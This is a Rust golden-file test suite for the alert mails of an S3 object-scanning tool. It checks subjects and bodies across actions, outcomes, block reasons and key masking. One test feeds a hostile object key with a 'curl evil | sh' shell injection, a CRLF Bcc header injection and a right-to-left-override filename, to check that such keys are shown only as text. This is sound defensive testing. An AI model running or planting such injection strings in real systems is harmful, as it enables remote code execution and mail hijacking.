//! The mails as people read them, compared with `tests/golden/alerts/*.txt`. To change a text,
//! change it, run with `UPDATE_GOLDEN=1`, and read the files before committing them.

use std::path::PathBuf;

use s3_warden::action::{Action, Mode, Outcome};
use s3_warden::alert::{Alert, AlertSettings, KeyStyle, body, subject};
use s3_warden::object::{Format, Why};
use s3_warden::verdict::{Category, Confidence, UndecidedReason, UnreadableReason, Verdict};

use crate::finding::{Sample, flagged};
use crate::schema;

const REASONS: [UndecidedReason; 7] = [
    UndecidedReason::InstructionsInContent,
    UndecidedReason::Contradiction,
    UndecidedReason::NothingFound,
    UndecidedReason::Refused,
    UndecidedReason::Malformed,
    UndecidedReason::Truncated,
    UndecidedReason::Rejected,
];

const WHYS: [Why; 10] = [
    Why::AccessDenied,
    Why::RequesterPays,
    Why::OtherOwner,
    Why::KeyDenied,
    Why::Archived,
    Why::Locked,
    Why::MfaRequired,
    Why::TooBigToCopy,
    Why::NotAFile,
    Why::CopyDiffers,
];

const UNREADABLE: [(&str, UnreadableReason); 7] = [
    ("heic", UnreadableReason::Unsupported(Format::Heic)),
    ("unknown", UnreadableReason::Unsupported(Format::Unknown)),
    ("damaged", UnreadableReason::Damaged),
    ("empty", UnreadableReason::Empty),
    ("too_large", UnreadableReason::TooLarge),
    ("too_many_pixels", UnreadableReason::TooManyPixels),
    ("denied", UnreadableReason::Denied(Why::AccessDenied)),
];

fn alert(sample: &Sample) -> Alert {
    Alert::about(&sample.finding(), &AlertSettings::default()).expect("it is to be told")
}

#[track_caller]
fn check(name: &str, alert: &Alert) {
    schema::check(alert);
    let subject = subject(alert);
    assert!(subject.len() < 100, "{subject}");
    assert!(subject.chars().all(|c| matches!(c, ' '..='~')), "{subject}");
    let text = format!("Subject: {subject}\n\n{}", body(alert));
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden/alerts")
        .join(format!("{name}.txt"));
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, &text).unwrap();
    }
    let golden = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(text, golden, "{name}: run with UPDATE_GOLDEN=1 and read it");
}

#[test]
fn flagged_by_every_outcome() {
    for (name, outcome) in [
        ("deleted", Outcome::Deleted),
        ("already_gone", Outcome::AlreadyGone),
        ("superseded", Outcome::Superseded),
        ("held", Outcome::Held),
    ] {
        let sample = Sample {
            outcome,
            ..Sample::default()
        };
        check(&format!("flagged_{name}"), &alert(&sample));
    }
    let quarantined = Sample {
        action: Action::Quarantine,
        outcome: Outcome::Quarantined,
        ..Sample::default()
    };
    check("flagged_quarantined", &alert(&quarantined));
    for (name, action) in [
        ("delete", Action::Delete),
        ("quarantine", Action::Quarantine),
    ] {
        let observed = Sample {
            action,
            mode: Mode::Observe,
            outcome: Outcome::Observed,
            ..Sample::default()
        };
        check(&format!("flagged_observed_{name}"), &alert(&observed));
    }
    for (name, outcome) in [
        ("tagged", Outcome::Tagged),
        ("tag_failed", Outcome::TagFailed),
    ] {
        let tagged = Sample {
            verdict: flagged(&[Category::Face], Confidence::Medium),
            action: Action::Tag,
            outcome,
            uploader: None,
            ..Sample::default()
        };
        check(&format!("flagged_{name}"), &alert(&tagged));
    }
}

#[test]
fn secrets_are_to_be_changed_whatever_was_done() {
    let sample = Sample {
        key: "screens/console.png",
        verdict: flagged(&[Category::Credentials], Confidence::High),
        ..Sample::default()
    };
    check("flagged_credentials_deleted", &alert(&sample));
}

#[test]
fn blocked_by_every_why() {
    for why in WHYS {
        let sample = Sample {
            outcome: Outcome::Blocked { why },
            ..Sample::default()
        };
        let name = serde_json::to_value(why).unwrap();
        check(
            &format!("blocked_{}", name.as_str().unwrap()),
            &alert(&sample),
        );
    }
}

#[test]
fn undecided_by_every_reason() {
    for reason in REASONS {
        let sample = Sample {
            verdict: Verdict::Undecided { reason },
            action: Action::Tag,
            outcome: Outcome::Tagged,
            ..Sample::default()
        };
        check(&format!("undecided_{}", reason.code()), &alert(&sample));
    }
    let quarantined = Sample {
        verdict: Verdict::Undecided {
            reason: UndecidedReason::InstructionsInContent,
        },
        action: Action::Quarantine,
        outcome: Outcome::Quarantined,
        ..Sample::default()
    };
    check("undecided_quarantined", &alert(&quarantined));
}

#[test]
fn unreadable_by_every_reason() {
    for (name, reason) in UNREADABLE {
        let format = match reason {
            UnreadableReason::Unsupported(format) => Some(format),
            _ => None,
        };
        let sample = Sample {
            verdict: Verdict::Unreadable { reason },
            format,
            action: Action::Keep,
            outcome: Outcome::Kept,
            ..Sample::default()
        };
        check(&format!("unreadable_{name}"), &alert(&sample));
    }
}

#[test]
fn the_service_has_paused() {
    let now = "2026-03-03T14:05:09Z".parse().unwrap();
    let why = "the queue refuses us: access denied; give the role sqs:ReceiveMessage";
    check("paused", &Alert::paused(why, now));
}

#[test]
fn many_in_one() {
    let mut merged = alert(&Sample::default());
    for sequencer in 2..=12 {
        merged.merge(alert(&Sample {
            sequencer,
            ..Sample::default()
        }));
    }
    check("merged_deleted", &merged);
    merged.merge(alert(&Sample {
        sequencer: 13,
        verdict: flagged(&[Category::Face], Confidence::Low),
        action: Action::Tag,
        outcome: Outcome::Tagged,
        ..Sample::default()
    }));
    merged.merge(alert(&Sample {
        sequencer: 14,
        outcome: Outcome::Superseded,
        ..Sample::default()
    }));
    check("merged_mixed", &merged);
    let blocked = |sequencer, why| {
        alert(&Sample {
            sequencer,
            outcome: Outcome::Blocked { why },
            ..Sample::default()
        })
    };
    let mut merged = blocked(1, Why::AccessDenied);
    merged.merge(blocked(2, Why::AccessDenied));
    merged.merge(blocked(3, Why::Locked));
    check("merged_blocked", &merged);
    let held = |sequencer| {
        alert(&Sample {
            sequencer,
            outcome: Outcome::Held,
            ..Sample::default()
        })
    };
    let mut merged = held(1);
    merged.merge(held(2));
    check("merged_held", &merged);
}

#[test]
fn a_hostile_key_is_only_text() {
    let sample = Sample {
        bucket: "ende\u{202e}xyz-with-a-name-that-goes-on-and-on-and-on-and-on-and-on-and-on-and-on",
        key: "a'; curl evil | sh; '\r\nBcc: x@example.com\u{202e}gnp.exe",
        uploader: Some("AWS:\r\nX"),
        ..Sample::default()
    };
    check("hostile_key", &alert(&sample));
    let quoted = Sample {
        key: "it's $(here).png",
        ..Sample::default()
    };
    check("quoted_key", &alert(&quoted));
}

#[test]
fn a_masked_key_is_nowhere() {
    let settings = AlertSettings {
        keys: KeyStyle::Masked,
        ..AlertSettings::default()
    };
    let sample = Sample {
        key: "people/jane-doe/passport-jane.jpg",
        ..Sample::default()
    };
    let alert = Alert::about(&sample.finding(), &settings).unwrap();
    check("masked_key", &alert);
    let all = format!("{}{}", body(&alert), serde_json::to_string(&alert).unwrap());
    assert!(!all.contains("jane") && !all.contains("people"), "{all}");
}

#[test]
fn no_key_is_in_a_subject() {
    for outcome in [Outcome::Deleted, Outcome::Held, Outcome::Observed] {
        let sample = Sample {
            key: "jane-doe.png",
            outcome,
            ..Sample::default()
        };
        assert!(!subject(&alert(&sample)).contains("jane"));
    }
}
